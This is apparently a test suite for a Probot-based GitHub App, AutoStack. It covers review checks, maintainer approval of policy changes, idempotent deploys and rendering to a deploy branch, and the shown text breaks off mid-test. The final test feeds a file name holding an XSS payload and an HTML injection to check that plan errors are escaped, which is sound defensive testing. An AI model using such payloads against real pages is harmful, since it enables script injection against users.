import '../synth/node.ts';
import { afterEach, describe, expect, it } from 'vitest';
import { MARKER } from '../app/github/sticky-comment.ts';
import { Probot, ProbotOctokit } from 'probot';
import { autostackApp } from '../app/github-app.ts';
import { loadAppConfig } from '../app/services/config.ts';
import { FakeGitHub, PLAN, payload, probot, APP_ID, OWNER, REPO, TEST_PRIVATE_KEY } from './github/harness.ts';

const BASE = 'b'.repeat(40);
const HEAD = 'c'.repeat(40);
const F = '.autostack/orders-db.yaml';
let gh: FakeGitHub;
afterEach(() => gh?.verify());

function prPayload(action: string) {
  return payload('pull_request', action, (p) => {
    p.number = 7;
    p.pull_request.number = 7;
    p.pull_request.head.sha = HEAD;
    p.pull_request.base.sha = BASE;
  });
}

/** A review run again on PR 7 whose check already exists: reads, the check updated, a new comment. */
function expectReReview(gh: FakeGitHub, commentId: number): void {
  gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD }, base: { sha: BASE } });
  gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }]);
  expectReviewReads(gh);
  gh.on('GET', gh.repoPath(`/commits/${HEAD}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 99, head_sha: HEAD }] });
  gh.on('PATCH', gh.repoPath('/check-runs/99'), 200, {});
  gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
  gh.on('GET', gh.repoPath('/issues/7/comments'), 200, []);
  gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: commentId });
}

function expectReviewReads(fake: FakeGitHub) {
  fake.graphql({ [BASE]: { [F]: PLAN('orders-db') }, [HEAD]: { [F]: PLAN('orders-db').replace('sizeGiB: 50', 'sizeGiB: 200') } });
}

describe('pull request review', () => {
  it('posts one check run with the review and creates the sticky comment', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified', sha: 'x' }, { filename: 'README.md', status: 'modified', sha: 'y' }]);
    expectReviewReads(gh);
    gh.newCheckRun(HEAD, 99);
    gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
    gh.on('GET', gh.repoPath('/issues/7/comments'), 200, [{ id: 1, body: `${MARKER}\ntyped by a person`, user: { login: 'someone', type: 'User' }, performed_via_github_app: null }]);
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 5 });
    await (await probot()).receive({ id: 'd1', name: 'pull_request', payload: prPayload('opened') } as never);
    const check = gh.made('POST', '/check-runs')[0]!.body;
    expect(check).toMatchObject({ status: 'completed', conclusion: 'success', output: { title: expect.stringContaining('1 plan changed') } });
    const comment = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
    expect(comment.startsWith(MARKER)).toBe(true);
    expect(comment).toContain('storage 50 → 200 GiB');
    expect(comment).toContain(`head=${HEAD}`);
  });

  it('fails a change that stops servers until the pull request carries the downtime label, and reviews again when it is added', async () => {
    const resized = PLAN('orders-db').replace('compute: { vcpu: 2, memoryGiB: 8 }', 'compute: { vcpu: 4, memoryGiB: 16 }');
    const expectRun = (checkId: number) => {
      gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }]);
      gh.graphql({ [BASE]: { [F]: PLAN('orders-db') }, [HEAD]: { [F]: resized } });
      gh.on('GET', gh.repoPath(`/commits/${HEAD}/check-runs`), 200, { total_count: 1, check_runs: [{ id: checkId, head_sha: HEAD }] });
      gh.on('PATCH', gh.repoPath(`/check-runs/${checkId}`), 200, {});
      gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
      gh.on('GET', gh.repoPath('/issues/7/comments'), 200, []);
      gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 8 });
    };
    gh = new FakeGitHub().token();
    expectRun(99);
    await (await probot()).receive({ id: 'dl1', name: 'pull_request', payload: prPayload('opened') } as never);
    const refused = gh.made('PATCH', '/check-runs/99')[0]!.body;
    expect(refused.conclusion).toBe('failure');
    expect(refused.output.annotations).toMatchObject([{ title: 'plan/downtime-unacknowledged', annotation_level: 'failure' }]);
    gh.verify();
    gh = new FakeGitHub().token();
    expectRun(100);
    const labeled = payload('pull_request', 'labeled', (p) => {
      p.number = 7;
      p.pull_request.number = 7;
      p.pull_request.head.sha = HEAD;
      p.pull_request.base.sha = BASE;
      p.label = { name: 'autostack/downtime-ok' };
      p.pull_request.labels = [{ name: 'autostack/downtime-ok' }];
    });
    await (await probot()).receive({ id: 'dl2', name: 'pull_request', payload: labeled } as never);
    expect(gh.made('PATCH', '/check-runs/100')[0]!.body.conclusion).toBe('success');
    // Any other label changes nothing: no review, no call.
    gh.verify();
    gh = new FakeGitHub();
    await (await probot()).receive({ id: 'dl3', name: 'pull_request', payload: { ...labeled, label: { name: 'bug' } } } as never);
  });

  describe('a pull request that changes the policy (A19)', () => {
    const S = '.autostack/autostack.yaml';
    const settings = (branch: string) => `apiVersion: autostack.dev/v1\nkind: Settings\nspec:\n  deployBranch: ${branch}\n`;
    const NEEDED = 'A maintainer or admin of this repository adds the label autostack/policy-ok to accept the policy change';
    /** One review of PR 7 (deploy branch autostack/deploy → autostack/live unless `policy` is false); `labeled` adds the label's events and the role of whoever added it last. */
    const expectPolicyRun = (checkId: number, opts: { policy?: boolean; events?: unknown[]; role?: { login: string; permission: string; role_name: string } } = {}) => {
      const head = opts.policy === false ? settings('autostack/deploy') : settings('autostack/live');
      gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }, { filename: S, status: 'modified' }]);
      gh.graphql({ [BASE]: { [F]: PLAN('orders-db'), [S]: settings('autostack/deploy') }, [HEAD]: { [F]: PLAN('orders-db').replace('sizeGiB: 50', 'sizeGiB: 60'), [S]: head } });
      if (opts.events) gh.pages(gh.repoPath('/issues/7/events'), opts.events);
      if (opts.role) gh.on('GET', gh.repoPath(`/collaborators/${opts.role.login}/permission`), 200, { permission: opts.role.permission, role_name: opts.role.role_name, user: { login: opts.role.login } });
      gh.on('GET', gh.repoPath(`/commits/${HEAD}/check-runs`), 200, { total_count: 1, check_runs: [{ id: checkId, head_sha: HEAD }] });
      gh.on('PATCH', gh.repoPath(`/check-runs/${checkId}`), 200, {});
      gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
      gh.on('GET', gh.repoPath('/issues/7/comments'), 200, []);
      gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 8 });
    };
    const labeled = (action: 'labeled' | 'opened', name = 'autostack/policy-ok') => payload('pull_request', action, (p) => {
      p.number = 7;
      p.pull_request.number = 7;
      p.pull_request.head.sha = HEAD;
      p.pull_request.base.sha = BASE;
      if (action === 'labeled') p.label = { name };
      p.pull_request.labels = [{ name }];
    });
    let n = 0;
    const event = (what: 'labeled' | 'unlabeled', login: string, at: string, name = 'autostack/policy-ok') => ({ id: ++n, node_id: `LE_${n}`, url: `https://api.github.com/repos/${OWNER}/${REPO}/issues/events/${n}`, actor: { login, id: n, type: 'User' }, event: what, commit_id: null, commit_url: null, created_at: at, label: { name, color: 'ededed' }, performed_via_github_app: null });
    const filler = (count: number) => Array.from({ length: count }, (_, i) => ({ ...event('labeled', 'triager', '2026-01-01T00:00:00Z', 'bug'), event: i % 2 ? 'labeled' : 'unlabeled' }));

    it('fails the check until the label is added, saying what is needed; the label added by someone with write access does not count', async () => {
      gh = new FakeGitHub().token();
      expectPolicyRun(99);
      await (await probot()).receive({ id: 'pol1', name: 'pull_request', payload: prPayload('opened') } as never);
      const refused = gh.made('PATCH', '/check-runs/99')[0]!.body;
      expect(refused.conclusion).toBe('failure');
      expect(refused.output.title).toMatch(/^Policy change not accepted: needs the label autostack\/policy-ok from a maintainer or admin/);
      expect(refused.output.annotations).toEqual(expect.arrayContaining([expect.objectContaining({ path: S, title: 'settings/policy-approval', annotation_level: 'failure' })]));
      const comment = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
      expect(comment).toContain(NEEDED);
      expect(comment).toContain('Deploy branch autostack/deploy → autostack/live');
      gh.verify();
      // A maintainer added it once and took it off; then someone with write access (triage would do) added it: theirs is the label on the pull request.
      gh = new FakeGitHub().token();
      expectPolicyRun(100, { events: [event('labeled', 'mona', '2026-03-01T10:00:00Z'), event('unlabeled', 'mona', '2026-03-01T11:00:00Z'), event('labeled', 'dev-writer', '2026-03-02T09:00:00Z')], role: { login: 'dev-writer', permission: 'write', role_name: 'write' } });
      await (await probot()).receive({ id: 'pol2', name: 'pull_request', payload: labeled('labeled') } as never);
      const still = gh.made('PATCH', '/check-runs/100')[0]!.body;
      expect(still.conclusion).toBe('failure');
      const second = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
      expect(second).toContain('was added by dev-writer, whose role on this repository is write');
      expect(second).toContain(NEEDED);
      expect(gh.made('GET', '/collaborators/mona/')).toHaveLength(0);
    });

    it('passes once a maintainer or an admin added the label (found on any page of the events), and reviews again when it is removed', async () => {
      for (const [i, role] of [{ login: 'mona', permission: 'write', role_name: 'maintain' }, { login: 'octo-admin', permission: 'admin', role_name: 'admin' }].entries()) {
        gh = new FakeGitHub().token();
        // 150 other label events first: the policy label's is on the second page.
        expectPolicyRun(101 + i, { events: [...filler(150), event('labeled', 'dev-writer', '2026-03-01T09:00:00Z'), event('labeled', role.login, '2026-03-02T09:00:00Z')], role });
        await (await probot()).receive({ id: `pol3-${i}`, name: 'pull_request', payload: labeled('labeled') } as never);
        const check = gh.made('PATCH', `/check-runs/${101 + i}`)[0]!.body;
        expect(check.conclusion, JSON.stringify(check.output.annotations)).toBe('success');
        const comment = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
        expect(comment).toContain(`The policy change is accepted: ${role.login} (${role.role_name} of this repository) added the label autostack/policy-ok`);
        expect(gh.made('GET', '/issues/7/events').length).toBe(2);
        gh.verify();
      }
      // Removed: reviewed again, failed again, and nobody is asked about a label that is not there.
      gh = new FakeGitHub().token();
      expectPolicyRun(103);
      const removed = payload('pull_request', 'unlabeled', (p) => {
        p.number = 7;
        p.pull_request.number = 7;
        p.pull_request.head.sha = HEAD;
        p.pull_request.base.sha = BASE;
        p.label = { name: 'autostack/policy-ok' };
        p.pull_request.labels = [];
      });
      await (await probot()).receive({ id: 'pol4', name: 'pull_request', payload: removed } as never);
      expect(gh.made('PATCH', '/check-runs/103')[0]!.body.conclusion).toBe('failure');
    });

    it('four eyes: the label added by the author of the pull request, or by an app, accepts nothing, whatever their role', async () => {
      for (const [i, who] of ['octo-author', 'renovate[bot]'].entries()) {
        gh = new FakeGitHub().token();
        expectPolicyRun(110 + i, { events: [event('labeled', who, '2026-03-02T09:00:00Z')] });
        const pr = labeled('labeled');
        pr.pull_request.user = { ...pr.pull_request.user, login: 'octo-author' };
        await (await probot()).receive({ id: `pol-4eyes-${i}`, name: 'pull_request', payload: pr } as never);
        expect(gh.made('PATCH', `/check-runs/${110 + i}`)[0]!.body.conclusion).toBe('failure');
        const comment = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
        expect(comment).toContain(i === 0 ? 'who opened this pull request, and an author cannot accept their own policy change' : 'an app, and only a person who is a maintainer or admin can accept a policy change');
        // Refused before anyone's role is looked up (the author may well be a maintainer).
        expect(gh.made('GET', '/collaborators/')).toHaveLength(0);
        gh.verify();
      }
    });

    it('a push that changes the policy again takes the label off (the approval was for the change the maintainer saw); a push that changes only plans keeps it', async () => {
      const PREV = 'd'.repeat(40);
      const pushed = (labels: string[]) => payload('pull_request', 'synchronize', (p) => {
        p.number = 7;
        p.pull_request.number = 7;
        p.pull_request.head.sha = HEAD;
        p.pull_request.base.sha = BASE;
        p.before = PREV;
        p.after = HEAD;
        p.pull_request.labels = labels.map((name) => ({ name }));
      });
      const mona = { login: 'mona', permission: 'write', role_name: 'maintain' };
      // The policy file changed again in this push: the label comes off and the check fails.
      gh = new FakeGitHub().token();
      gh.on('GET', gh.repoPath(`/compare/${PREV}...${HEAD}`), 200, { status: 'ahead', files: [{ filename: F, status: 'modified' }, { filename: S, status: 'modified' }] });
      gh.on('DELETE', gh.repoPath('/issues/7/labels/autostack/policy-ok'), 200, []);
      expectPolicyRun(105);
      await (await probot()).receive({ id: 'pol6', name: 'pull_request', payload: pushed(['autostack/policy-ok']) } as never);
      expect(gh.made('DELETE', '/labels/')).toHaveLength(1);
      expect(gh.made('PATCH', '/check-runs/105')[0]!.body.conclusion).toBe('failure');
      expect(gh.made('POST', '/issues/7/comments')[0]!.body.body).toContain(NEEDED);
      expect(gh.requests.filter((r) => /\/events|\/collaborators\//.test(r.path))).toEqual([]);
      gh.verify();
      // Only a plan changed in this push: the maintainer's label still accepts the policy change.
      gh = new FakeGitHub().token();
      gh.on('GET', gh.repoPath(`/compare/${PREV}...${HEAD}`), 200, { status: 'ahead', files: [{ filename: F, status: 'modified' }] });
      expectPolicyRun(106, { events: [event('labeled', 'mona', '2026-03-02T09:00:00Z')], role: mona });
      await (await probot()).receive({ id: 'pol7', name: 'pull_request', payload: pushed(['autostack/policy-ok']) } as never);
      expect(gh.made('DELETE', '/labels/')).toHaveLength(0);
      expect(gh.made('PATCH', '/check-runs/106')[0]!.body.conclusion).toBe('success');
      gh.verify();
      // A force push (the old head is not behind the new one) could hide anything: the label comes off.
      gh = new FakeGitHub().token();
      gh.on('GET', gh.repoPath(`/compare/${PREV}...${HEAD}`), 200, { status: 'diverged', files: [{ filename: F, status: 'modified' }] });
      gh.on('DELETE', gh.repoPath('/issues/7/labels/autostack/policy-ok'), 200, []);
      expectPolicyRun(107);
      await (await probot()).receive({ id: 'pol8', name: 'pull_request', payload: pushed(['autostack/policy-ok']) } as never);
      expect(gh.made('PATCH', '/check-runs/107')[0]!.body.conclusion).toBe('failure');
    });

    it('makes none of the extra calls for a pull request that does not change the policy, label or not', async () => {
      gh = new FakeGitHub().token();
      expectPolicyRun(104, { policy: false });
      await (await probot()).receive({ id: 'pol5', name: 'pull_request', payload: labeled('opened') } as never);
      expect(gh.made('PATCH', '/check-runs/104')[0]!.body.conclusion).toBe('success');
      expect(gh.requests.filter((r) => /\/events|\/collaborators\//.test(r.path))).toEqual([]);
      expect(gh.made('POST', '/issues/7/comments')[0]!.body.body).not.toContain('policy');
    });
  });

  it('updates its own comment in place on a new push, and fails the check on errors with annotations', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }]);
    gh.graphql({ [BASE]: { [F]: PLAN('orders-db') }, [HEAD]: { [F]: PLAN('orders-db').replace('region: us-east-1', 'region: mars-1') } });
    gh.on('GET', gh.repoPath(`/commits/${HEAD}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 99, head_sha: HEAD }] });
    gh.on('PATCH', gh.repoPath('/check-runs/99'), 200, {});
    gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
    gh.on('GET', gh.repoPath('/issues/7/comments'), 200, [{ id: 3, body: `${MARKER}\nold\n<!-- autostack:meta head=${BASE} at=2020-01-01T00:00:00.000Z -->`, user: { login: 'autostack[bot]', type: 'Bot' }, performed_via_github_app: { id: APP_ID } }]);
    gh.on('PATCH', gh.repoPath('/issues/comments/3'), 200, { id: 3 });
    await (await probot()).receive({ id: 'd2', name: 'pull_request', payload: prPayload('synchronize') } as never);
    const check = gh.made('PATCH', '/check-runs/99')[0]!.body;
    expect(check.conclusion).toBe('failure');
    expect(check.output.annotations).toMatchObject([{ path: F, start_line: 6, annotation_level: 'failure', title: 'plan/unknown-region' }]);
    expect(gh.made('PATCH', '/issues/comments/3')[0]!.body.body).toContain('Unknown region');
  });

  it('does not comment on a pull request without .autostack/ changes, and gives it a passing check', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: 'src/app.ts', status: 'modified' }]);
    gh.newCheckRun(HEAD, 9);
    await (await probot()).receive({ id: 'd3', name: 'pull_request', payload: prPayload('reopened') } as never);
    expect(gh.made('POST', '/check-runs')[0]!.body).toMatchObject({ conclusion: 'success', output: { title: 'No AutoStack changes' } });
  });

  it('never lets a run for an older head overwrite the comment', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }]);
    expectReviewReads(gh);
    gh.newCheckRun(HEAD, 99);
    gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: 'd'.repeat(40) } });
    await (await probot()).receive({ id: 'd4', name: 'pull_request', payload: prPayload('ready_for_review') } as never);
    expect(gh.made('POST', '/issues/7/comments')).toHaveLength(0);
  });

  it('turns a failing handler into a failed check with a readable message', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/pulls/7/files'), 500, { message: 'Server Error' });
    gh.newCheckRun(HEAD, 77);
    await (await probot()).receive({ id: 'd5', name: 'pull_request', payload: prPayload('opened') } as never);
    const body = gh.made('POST', '/check-runs')[0]!.body;
    expect(body.conclusion).toBe('failure');
    expect(body.output.summary).toContain('AutoStack could not finish');
    expect(JSON.stringify(body)).not.toContain('ghs_');
  });

  it('re-runs the review when its check is re-requested', async () => {
    gh = new FakeGitHub().token();
    expectReReview(gh, 5);
    const p = payload('check_run', 'rerequested', (x) => {
      x.check_run.name = 'AutoStack';
      x.check_run.head_sha = HEAD;
      x.check_run.app.id = APP_ID;
      x.check_run.pull_requests = [{ number: 7, id: 1, url: '', head: { ref: 'f', sha: HEAD, repo: {} }, base: { ref: 'main', sha: BASE, repo: {} } }];
    });
    await (await probot()).receive({ id: 'd6', name: 'check_run', payload: p } as never);
    expect(gh.made('POST', '/issues/7/comments')).toHaveLength(1);
  });
});

void OWNER;
void REPO;

describe('idempotent side effects', () => {
  /** GitHub's comments and check runs on PR 7, kept as state: a list answers with what was created so far. */
  function statefulPullRequest(fake: FakeGitHub, runs: number, failFirstCommentPost = false) {
    const checks: { id: number; head_sha: string }[] = [];
    const comments: { id: number; body: string; user: { login: string; type: string }; performed_via_github_app: { id: number } }[] = [];
    for (let i = 0; i < runs; i++) {
      fake.on('GET', fake.repoPath('/pulls/7/files'), 200, [{ filename: F, status: 'modified' }]);
      expectReviewReads(fake);
      fake.on('GET', fake.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
    }
    // The review that creates the check lists once more to confirm its run came first.
    fake.on('GET', fake.repoPath(`/commits/${HEAD}/check-runs`), () => [200, { total_count: checks.length, check_runs: [...checks] }], undefined, runs + 1);
    fake.on('POST', fake.repoPath('/check-runs'), () => {
      checks.push({ id: 100 + checks.length, head_sha: HEAD });
      return [201, checks.at(-1)];
    });
    if (runs > 1) fake.on('PATCH', /\/check-runs\/\d+$/, 200, {}, runs - 1);
    fake.on('GET', fake.repoPath('/issues/7/comments'), () => [200, [...comments]], undefined, runs + (failFirstCommentPost ? 1 : 0));
    fake.on('POST', fake.repoPath('/issues/7/comments'), (body) => {
      comments.push({ id: 500 + comments.length, body: body.body, user: { login: 'autostack[bot]', type: 'Bot' }, performed_via_github_app: { id: APP_ID } });
      // GitHub made the comment, but the answer is lost on the way back.
      return failFirstCommentPost ? [502, { message: 'Bad Gateway' }] : [201, comments.at(-1)];
    });
    if (runs > 1) fake.on('PATCH', /\/issues\/comments\/\d+$/, 200, {}, runs - 1);
    return { checks, comments };
  }

  it('two deliveries for the same head at once make one check run and one comment', async () => {
    gh = new FakeGitHub().token();
    const state = statefulPullRequest(gh, 2);
    const app = await probot();
    await Promise.all([
      app.receive({ id: 'c1', name: 'pull_request', payload: prPayload('opened') } as never),
      app.receive({ id: 'c2', name: 'pull_request', payload: prPayload('synchronize') } as never),
    ]);
    expect(state.checks).toHaveLength(1);
    expect(state.comments).toHaveLength(1);
    expect(gh.made('POST', '/check-runs')).toHaveLength(1);
    expect(gh.made('POST', '/issues/7/comments')).toHaveLength(1);
  });

  it('a 502 on creating the comment is not retried blindly: GitHub is asked first, and the comment made is kept', async () => {
    gh = new FakeGitHub().token();
    const state = statefulPullRequest(gh, 1, true);
    // Retries on, as in production (Probot's default), with no waiting.
    const app = new Probot({ appId: APP_ID, privateKey: TEST_PRIVATE_KEY, secret: 'test-secret', logLevel: 'fatal', Octokit: ProbotOctokit.defaults((o: Record<string, unknown>) => ({ ...o, retry: { enabled: true, retryAfterBaseValue: 1 }, throttle: { enabled: false } })) });
    await app.load(autostackApp({ config: loadAppConfig({}), appId: APP_ID }));
    await app.receive({ id: 'c3', name: 'pull_request', payload: prPayload('opened') } as never);
    expect(gh.made('POST', '/issues/7/comments')).toHaveLength(1);
    expect(state.comments).toHaveLength(1);
    expect(gh.made('POST', '/check-runs')[0]!.body.conclusion).toBe('success');
  });
});

describe('merge: render and deploy', () => {
  const BEFORE = 'e'.repeat(40);
  const AFTER = 'f'.repeat(40);
  const DEPLOY_HEAD = '1'.repeat(40);
  const pushPayload = () => payload('push', undefined, (p) => {
    p.ref = 'refs/heads/main';
    p.before = BEFORE;
    p.after = AFTER;
    p.deleted = false;
  });

  function renderFlow(fake: FakeGitHub, workflow: boolean) {
    // Read twice: the files the push changed, then whether it comes after the deploy branch's source (BEFORE).
    fake.on('GET', fake.repoPath(`/compare/${BEFORE}...${AFTER}`), 200, { status: 'ahead', files: [{ filename: F, status: 'added' }, { filename: '.autostack/old-db.yaml', status: 'removed' }, { filename: 'README.md', status: 'modified' }] }, 2);
    fake.graphql({ [BEFORE]: { '.autostack/old-db.yaml': PLAN('old-db') }, [AFTER]: { [F]: PLAN('orders-db') } });
    fake.on('GET', fake.repoPath('/git/ref/heads/autostack/deploy'), 200, { ref: 'refs/heads/autostack/deploy', object: { sha: DEPLOY_HEAD, type: 'commit' } });
    fake.on('GET', fake.repoPath(`/git/commits/${DEPLOY_HEAD}`), 200, { sha: DEPLOY_HEAD, message: `Render eeeeeee: x\n\nAutoStack-Source: ${BEFORE}\n`, tree: { sha: 'tree1' } });
    fake.on('GET', fake.repoPath('/contents/autostack-deploy.json'), 200, { type: 'file', encoding: 'base64', content: Buffer.from(JSON.stringify({ version: 1, sourceSha: '0', renderedAt: '', stacks: [{ name: 'old-db-aws', plan: 'old-db', cloud: 'aws', action: 'apply' }, { name: 'gone-aws', plan: 'gone', cloud: 'aws', action: 'destroy' }] })).toString('base64') });
    fake.on('POST', fake.repoPath('/git/trees'), 201, { sha: 'tree2' });
    fake.on('POST', fake.repoPath('/git/commits'), 201, { sha: '2'.repeat(40) });
    fake.on('PATCH', fake.repoPath('/git/refs/heads/autostack/deploy'), 200, { ref: 'refs/heads/autostack/deploy', object: { sha: '2'.repeat(40) } });
    fake.on('GET', fake.repoPath('/contents/.github/workflows/autostack-deploy.yml'), workflow ? 200 : 404, workflow ? { type: 'file', content: '', encoding: 'base64' } : { message: 'Not Found' });
  }

  it('commits the rendered stacks to the deploy branch, creates deployments and dispatches the workflow', async () => {
    gh = new FakeGitHub().token();
    renderFlow(gh, true);
    gh.on('GET', gh.repoPath('/deployments'), 200, [], 2);
    gh.on('POST', gh.repoPath('/deployments'), (body) => [201, { id: body.environment === 'autostack/orders-db' ? 11 : 12 }], undefined, 2);
    gh.newCheckRun(AFTER, 50, 1);
    gh.on('POST', gh.repoPath('/actions/workflows/autostack-deploy.yml/dispatches'), 204);
    gh.on('POST', gh.repoPath('/deployments/11/statuses'), 201, { id: 1 });
    gh.on('POST', gh.repoPath('/deployments/12/statuses'), 201, { id: 2 });
    await (await probot()).receive({ id: 'p1', name: 'push', payload: pushPayload() } as never);
    const tree = gh.made('POST', '/git/trees')[0]!.body;
    expect(tree.base_tree).toBe('tree1');
    const paths = tree.tree.map((t: { path: string }) => t.path);
    expect(paths).toEqual(['stacks/orders-db-aws/cdk.tf.json', 'stacks/gone-aws/cdk.tf.json', 'autostack-deploy.json']);
    expect(tree.tree[1].sha).toBeNull();
    const manifest = JSON.parse(tree.tree[2].content);
    expect(manifest).toMatchObject({ sourceSha: AFTER, stacks: [{ name: 'old-db-aws', action: 'destroy' }, { name: 'orders-db-aws', action: 'apply' }] });
    expect(gh.made('POST', '/git/commits')[0]!.body.message).toContain(`AutoStack-Source: ${AFTER}`);
    expect(gh.made('POST', '/deployments').filter((r) => !r.path.includes('/statuses')).map((r) => r.body.environment)).toEqual(['autostack/orders-db', 'autostack/old-db']);
    const dispatch = gh.made('POST', '/dispatches')[0]!.body;
    expect(dispatch).toEqual({ ref: 'main', inputs: { source_sha: AFTER, stacks: '["orders-db-aws","old-db-aws"]', mode: 'apply' } });
    // The dispatch is recorded on each deployment, so no later delivery dispatches it again.
    expect(gh.made('POST', '/deployments/11/statuses')[0]!.body).toMatchObject({ state: 'queued' });
    // The deploy check is created queued and leaves that state only once the dispatch is recorded (docs/operations.md).
    expect(gh.made('POST', '/check-runs')[0]!.body).toMatchObject({ name: 'AutoStack deploy', status: 'queued' });
    expect(gh.made('PATCH', '/check-runs/50')[0]!.body).toEqual({ status: 'in_progress' });
  });

  it('without a deploy workflow, says so on the commit and opens the onboarding pull request', async () => {
    gh = new FakeGitHub().token();
    renderFlow(gh, false);
    gh.newCheckRun(AFTER, 51);
    gh.on('GET', gh.repoPath('/contents/.autostack/autostack.yaml'), 404, { message: 'Not Found' });
    gh.on('GET', gh.repoPath('/pulls'), 200, []);
    gh.on('GET', gh.repoPath('/git/ref/heads/main'), 200, { object: { sha: AFTER } });
    gh.on('GET', gh.repoPath(`/git/commits/${AFTER}`), 200, { sha: AFTER, tree: { sha: 'roottree' } });
    gh.on('POST', gh.repoPath('/git/trees'), 201, { sha: 'tree3' });
    gh.on('POST', gh.repoPath('/git/commits'), 201, { sha: '3'.repeat(40) });
    gh.on('POST', gh.repoPath('/git/refs'), 201, { ref: 'refs/heads/autostack/onboarding' });
    gh.on('POST', gh.repoPath('/pulls'), 201, { number: 2 });
    await (await probot()).receive({ id: 'p2', name: 'push', payload: pushPayload() } as never);
    expect(gh.made('POST', '/check-runs')[0]!.body).toMatchObject({ conclusion: 'action_required', output: { title: 'Rendered, not deployed: no deploy workflow' } });
    expect(gh.made('POST', '/pulls')[0]!.body).toMatchObject({ head: 'autostack/onboarding', base: 'main', title: 'Set up AutoStack' });
  });

  it('does nothing twice for the same push under a new delivery id (or after a restart): deploy commit, deployments, check and dispatch are reused', async () => {
    gh = new FakeGitHub();
    for (const delivery of ['p3', 'p3-again', 'p3-after-restart']) {
      gh.token();
      gh.on('GET', gh.repoPath(`/compare/${BEFORE}...${AFTER}`), 200, { files: [{ filename: F, status: 'modified' }] });
      gh.graphql({ [BEFORE]: { [F]: PLAN('orders-db') }, [AFTER]: { [F]: PLAN('orders-db').replace('50', '60') } });
      gh.on('GET', gh.repoPath('/git/ref/heads/autostack/deploy'), 200, { object: { sha: DEPLOY_HEAD } });
      gh.on('GET', gh.repoPath(`/git/commits/${DEPLOY_HEAD}`), 200, { sha: DEPLOY_HEAD, message: `Render fffffff: orders-db-aws (apply)\n\nAutoStack-Source: ${AFTER}\n`, tree: { sha: 't' } });
      gh.on('GET', gh.repoPath('/contents/.github/workflows/autostack-deploy.yml'), 200, { type: 'file' });
      gh.on('GET', gh.repoPath('/deployments'), 200, [{ id: 11, payload: { stack: 'orders-db-aws' } }]);
      gh.on('GET', gh.repoPath('/deployments/11/statuses'), 200, [{ id: 1, state: 'queued' }]);
      gh.on('GET', gh.repoPath(`/commits/${AFTER}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 52, head_sha: AFTER }] });
      // A new Probot each time: nothing is remembered in memory between deliveries.
      await (await probot()).receive({ id: delivery, name: 'push', payload: pushPayload() } as never);
    }
    // POST /graphql is the batched read of the plans, not a write.
    expect(gh.requests.filter((r) => r.method !== 'GET' && !r.path.includes('/access_tokens') && r.path !== '/graphql')).toEqual([]);
  });

  it('refuses a late or replayed push whose commit the deploy branch\'s render already includes: nothing rendered, deployed or dispatched', async () => {
    gh = new FakeGitHub().token();
    const NEWER = '9'.repeat(40);
    gh.on('GET', gh.repoPath(`/compare/${BEFORE}...${AFTER}`), 200, { files: [{ filename: F, status: 'modified' }] });
    gh.graphql({ [BEFORE]: { [F]: PLAN('orders-db') }, [AFTER]: { [F]: PLAN('orders-db').replace('50', '60') } });
    gh.on('GET', gh.repoPath('/git/ref/heads/autostack/deploy'), 200, { object: { sha: DEPLOY_HEAD } });
    gh.on('GET', gh.repoPath(`/git/commits/${DEPLOY_HEAD}`), 200, { sha: DEPLOY_HEAD, message: `Render 9999999: orders-db-aws (apply)\n\nAutoStack-Source: ${NEWER}\n`, tree: { sha: 't' } });
    // GitHub's compare: the replayed commit is behind the one the deploy branch names.
    gh.on('GET', gh.repoPath(`/compare/${NEWER}...${AFTER}`), 200, { status: 'behind', ahead_by: 0, behind_by: 3, files: [] });
    gh.newCheckRun(AFTER, 53);
    await (await probot()).receive({ id: 'p-late', name: 'push', payload: pushPayload() } as never);
    expect(gh.made('POST', '/git/')).toHaveLength(0);
    expect(gh.made('PATCH', '/git/refs')).toHaveLength(0);
    expect(gh.made('POST', '/deployments')).toHaveLength(0);
    expect(gh.made('POST', '/dispatches')).toHaveLength(0);
    expect(gh.made('POST', '/check-runs')[0]!.body).toMatchObject({ conclusion: 'neutral', output: { title: 'Not deployed: a newer commit is already deployed', summary: expect.stringContaining('roll the stacks back') } });
  });

  it('quotes plan errors in the deploy check summary as text: no tag or mention from a file name or a value', async () => {
    gh = new FakeGitHub().token();
    const file = '.autostack/<img src=x onerror=alert(1)>.yaml';
    gh.on('GET', gh.repoPath(`/compare/${BEFORE}...${AFTER}`), 200, { files: [{ filename: file, status: 'added' }] });
    gh.graphql({ [BEFORE]: {}, [AFTER]: { [file]: PLAN('orders-db').replace('us-east-1', '"<h2>@acme/security</h2>"') } });
